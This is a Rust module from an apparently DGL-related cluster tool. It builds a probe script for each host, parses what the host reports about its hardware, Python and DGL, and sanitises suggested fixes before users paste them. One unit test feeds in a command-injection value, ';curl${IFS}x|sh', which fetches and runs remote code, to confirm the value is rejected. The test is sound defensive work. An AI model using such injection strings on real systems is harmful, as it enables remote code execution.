//! What is asked of a host, and what its answer means.

use common::error::Fault;
use common::quote;
use common::record::{Facts, Host};
use indexmap::IndexMap;
use serde_json::value::RawValue;

const ENV_SH: &str = include_str!("env.sh");
const HOST_SH: &str = include_str!("host.sh");
const FACTS_PY: &str = include_str!("facts.py");

/// What is wanted of every host.
pub struct Wanted<'a> {
    /// The folder of the job.
    pub workspace: Option<&'a str>,
    /// Graph servers on each host.
    pub num_servers: u16,
    /// Whose interpreter.
    pub python: Python<'a>,
    /// Shell text before it.
    pub setup: Option<&'a str>,
}

/// Which Python is looked at.
#[derive(Clone, Copy)]
pub enum Python<'a> {
    /// A command.
    Command(&'a str),
    /// That of a conda environment, by its name or folder.
    Conda(&'a str),
    /// That of a venv, by its folder.
    Venv(&'a str),
}

/// The script of a host.
pub fn script(wanted: &Wanted<'_>, host: &Host) -> Vec<u8> {
    let mut python = wanted.setup.map_or(String::new(), |setup| format!("{setup}\n")).into_bytes();
    let (interpreter, conda, venv) = match wanted.python {
        Python::Command(command) => (quote::sh(command), "", ""),
        // what host.sh found
        Python::Conda(env) => (b"\"$DGL_TOOLS_PYTHON\"".to_vec(), env, ""),
        Python::Venv(folder) => (b"\"$DGL_TOOLS_PYTHON\"".to_vec(), "", folder),
    };
    python.extend([&b"exec "[..], &interpreter, b" -c ", &quote::sh(FACTS_PY)].concat());
    let last = host.port.saturating_add(wanted.num_servers - 1);
    let mut text = format!("first={} last={last}\n", host.port).into_bytes();
    let workspace = wanted.workspace.unwrap_or_default();
    let values = [("workspace", workspace.as_bytes()), ("conda", conda.as_bytes()), ("venv", venv.as_bytes()), ("python", &python)];
    for (name, value) in values {
        text.extend_from_slice(format!("{name}=").as_bytes());
        text.extend(quote::sh(value));
        text.push(b'\n');
    }
    text.extend_from_slice(ENV_SH.as_bytes());
    text.extend_from_slice(HOST_SH.as_bytes());
    text
}

/// What a host answered: its facts, and what is missing but no error.
#[derive(Debug, Default, PartialEq)]
pub struct Answer {
    /// What goes into its record.
    pub facts: Facts,
    /// What the user should know.
    pub warnings: Vec<Fault>,
}

/// Reads the lines `NAME VALUE` of the script.
pub fn answer(host: &Host, python: Python<'_>, lines: &[String]) -> Result<Answer, Fault> {
    let mut facts = Facts::default();
    let mut cards = Vec::new();
    let mut interpreter = match python {
        Python::Command(command) => command,
        Python::Conda(_) | Python::Venv(_) => "its Python",
    };
    let (mut no_env, mut why) = (None, String::new());
    for line in lines {
        let (name, value) = line.split_once(' ').unwrap_or((line, ""));
        let text = || Some(value.to_owned()).filter(|value| !value.is_empty());
        match name {
            "card" => cards.extend(value.split_once(' ')),
            "cpus" => facts.cpus = value.parse().ok(),
            "mem" => facts.mem_bytes = value.parse().ok(),
            "shm" => facts.shm_free_bytes = value.parse().ok(),
            "free" => facts.free_bytes = value.parse().ok(),
            "fs" => facts.workspace_fs = text(),
            "gpus" => facts.gpus = value.parse().ok(),
            "nofile" => facts.nofile = value.parse().ok(),
            "master_port" => facts.master_port = value.parse().ok(),
            "home" => facts.home = text(),
            "python" => facts.python = text(),
            "executable" => facts.python_path = text(),
            "prefix" => facts.prefix = text(),
            "conda_env" => facts.conda_env = text(),
            "path" => facts.path = text(),
            "interpreter" => interpreter = value,
            "why" => why = format!(": {value}"),
            "noenv" => no_env = Some(Fault::unreachable(host.place(), value)),
            "cure" => no_env = no_env.map(|fault| fault.fix(checked_cure(value))),
            "dgl" => facts.dgl = text(),
            "torch" => facts.torch = text(),
            _ => {}
        }
    }
    if let Some(fault) = no_env {
        return Err(fault);
    }
    let mut warnings = Vec::new();
    let mut warn = |problem: String, fix: &str| warnings.push(Fault::data(format!("warning: {}", host.place()), problem).fix(fix));
    let ip = host.ip.to_string();
    match cards.iter().find(|(_, address)| *address == ip) {
        Some((card, _)) => facts.iface = Some((*card).to_owned()),
        None if cards.is_empty() => {
            let problem = "its network cards could not be listed, so nobody knows whether DGL finds its address";
            warn(problem.to_owned(), "install iproute2 there, or Python");
        }
        None => return Err(no_card(host, &cards)),
    }
    let name_it = "name the job's Python: --conda ENV, --venv DIR or --python CMD, with --setup where it needs one";
    match (&facts.python, &facts.dgl) {
        (None, _) => warn(format!("{interpreter} does not run there{why}"), name_it),
        (_, None) => {
            let python = facts.python_path.as_deref().unwrap_or(interpreter);
            warn(format!("no dgl in {python}"), &format!("install dgl there, or {name_it}"));
        }
        _ => {}
    }
    Ok(Answer { facts, warnings })
}

/// The cures of env.sh. People paste them, so they are known here, and a host has its word only in a path.
fn checked_cure(said: &str) -> &str {
    let with_path = ["make it there: python3 -m venv ", "say --conda "];
    let whole = [
        "conda env list tells there which there are",
        "conda env list tells there which there are; --conda takes a folder too",
        "name a venv with --venv",
        "install Python into it, or name another environment",
    ];
    let path = with_path.iter().find_map(|beginning| said.strip_prefix(beginning));
    match path.is_some_and(|path| path.starts_with('/') && quote::may_be_pasted(path)) || whole.contains(&said) {
        true => said,
        false => "make the environment there, or name another one with --conda or --venv",
    }
}

fn no_card(host: &Host, cards: &[(&str, &str)]) -> Fault {
    let real: Vec<String> = cards.iter().filter(|(card, _)| *card != "lo").map(|(card, address)| format!("{card} {address}")).collect();
    let shown = if real.is_empty() { "there is only lo".to_owned() } else { real.join(", ") };
    let problem = format!("{} is not the first address of a card there ({shown}); DGL would take the host for machine 0", host.ip);
    let fix = "write the address of its card in ip_config (DGL compares only the first address of each card)";
    Fault::unreachable(host.place(), problem).fix(fix)
}

/// Says which hosts have which DGL, where they differ.
pub fn versions_differ<'a>(found: impl IntoIterator<Item = (u32, &'a Facts)>) -> Option<String> {
    let mut versions: IndexMap<&str, Vec<String>> = IndexMap::new();
    for (host, facts) in found {
        if let Some(version) = &facts.dgl {
            versions.entry(version).or_default().push(host.to_string());
        }
    }
    let shown: Vec<String> = versions.iter().map(|(version, hosts)| format!("{version} on host {}", hosts.join(","))).collect();
    (shown.len() > 1).then(|| format!("the hosts have different versions of dgl: {}", shown.join("; ")))
}

/// What one Python and its environment are: of another look nothing may stay.
const OF_PYTHON: [&str; 7] = ["python", "python_path", "prefix", "conda_env", "path", "dgl", "torch"];

/// A host's line with its facts, or with why it cannot be used. What is not known here stays as it was written.
pub fn rewritten(line: &[u8], outcome: Result<&Facts, &str>) -> Result<Vec<u8>, serde_json::Error> {
    let mut fields: IndexMap<String, Box<RawValue>> = serde_json::from_slice(line)?;
    for name in ["ok", "error"].iter().chain(&OF_PYTHON) {
        fields.shift_remove(*name);
    }
    match outcome {
        Ok(facts) => {
            let facts: IndexMap<String, Box<RawValue>> = serde_json::from_str(&serde_json::to_string(facts)?)?;
            fields.extend(facts);
        }
        Err(error) => {
            fields.insert("ok".to_owned(), serde_json::value::to_raw_value(&false)?);
            fields.insert("error".to_owned(), serde_json::value::to_raw_value(error)?);
        }
    }
    serde_json::to_vec(&fields)
}

#[cfg(test)]
mod tests {
    use super::*;
    use common::record::IpAddr;

    fn host(ip: &str) -> Host {
        Host { of: 1, ip: IpAddr(ip.parse().unwrap()), port: 30050, ..Host::default() }
    }

    #[test]
    fn answers() {
        let whole = ["card lo 127.0.0.1", "card eth0 10.77.0.2", "python 3.10.1", "dgl 2.1.0"];
        let none = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure make it there: python3 -m venv /v"];
        let evil = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure say --conda /v;curl${IFS}x|sh"];
        let table: [(&str, &[&str], Result<(Option<&str>, usize), &str>); 7] = [
            ("10.77.0.2", &whole, Ok((Some("eth0"), 0))),
            ("10.0.0.5", &whole, Err("10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would")),
            ("10.0.0.5", &whole[..1], Err("(there is only lo)")),
            ("10.77.0.2", &whole[..3], Ok((Some("eth0"), 1))),
            ("10.77.0.2", &[], Ok((None, 2))),
            ("10.77.0.2", &none, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make it there: python3 -m venv /v")),
            ("10.77.0.2", &evil, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make the environment there, or name")),
        ];
        for (ip, lines, wanted) in table {
            let lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
            match (answer(&host(ip), Python::Command("python3"), &lines), wanted) {
                (Ok(got), Ok((iface, warnings))) => {
                    assert_eq!((got.facts.iface.as_deref(), got.warnings.len()), (iface, warnings), "{lines:?}");
                }
                (Err(fault), Err(text)) => assert!(fault.to_string().contains(text), "{fault}"),
                (got, wanted) => assert!(got.is_ok() == wanted.is_ok(), "{got:?} {wanted:?}"),
            }
        }
    }

    #[test]
    fn an_interpreter_is_named_by_its_path() {
        let table: [(&[&str], Python<'_>, &str); 4] = [
            (&["python 3.11.2", "executable /usr/bin/python3"], Python::Command("python3"), "no dgl in /usr/bin/python3"),
            (&["python 3.11.2"], Python::Command("python3"), "no dgl in python3"),
            (&["why sh: not found"], Python::Command("/o/python"), "/o/python does not run there: sh: not found"),
            (&["prefix /v", "interpreter /v/bin/python3"], Python::Venv("/v"), "/v/bin/python3 does not run there"),
        ];
        for (lines, python, warning) in table {
            let lines: Vec<String> = lines.iter().chain(&["card eth0 10.77.0.2"]).map(|line| (*line).to_owned()).collect();
            let warnings = answer(&host("10.77.0.2"), python, &lines).unwrap().warnings;
            assert_eq!(warnings.len(), 1);
            assert!(warnings[0].to_string().starts_with(&format!("warning: host 0 (10.77.0.2): {warning}\n  fix: ")), "{}", warnings[0]);
        }
    }

    #[test]
    fn lines_keep_what_is_not_known() {
        let facts = Facts { cpus: Some(8), ..Facts::default() };
        let table: [(&str, Result<&Facts, &str>, &str); 4] = [
            (r#"{"type":"host","id":0,"cpus":2,"prefix":"/v","path":"/bin","dgl":"1"}"#, Ok(&facts), r#"{"type":"host","id":0,"cpus":8}"#),
            (r#"{"type":"host","x":1.50,"cpus":2,"id":0}"#, Ok(&facts), r#"{"type":"host","x":1.50,"cpus":8,"id":0}"#),
            (r#"{"type":"host","ok":true,"error":"old","y":[1e400]}"#, Ok(&facts), r#"{"type":"host","y":[1e400],"cpus":8}"#),
            (r#"{"type":"host","ok":true,"z":"ä"}"#, Err("no"), r#"{"type":"host","z":"ä","ok":false,"error":"no"}"#),
        ];
        for (line, outcome, wanted) in table {
            assert_eq!(String::from_utf8(rewritten(line.as_bytes(), outcome).unwrap()).unwrap(), wanted);
        }
    }

    #[test]
    fn different_versions_are_told() {
        let facts = |version: Option<&str>| Facts { dgl: version.map(str::to_owned), ..Facts::default() };
        let (old, new, none) = (facts(Some("1.0.4")), facts(Some("2.1.0")), facts(None));
        assert_eq!(versions_differ([(0, &old), (1, &old), (2, &none)]), None);
        let told = versions_differ([(0, &old), (1, &new), (2, &old)]).unwrap();
        assert!(told.ends_with("1.0.4 on host 0,2; 2.1.0 on host 1"), "{told}");
    }
}
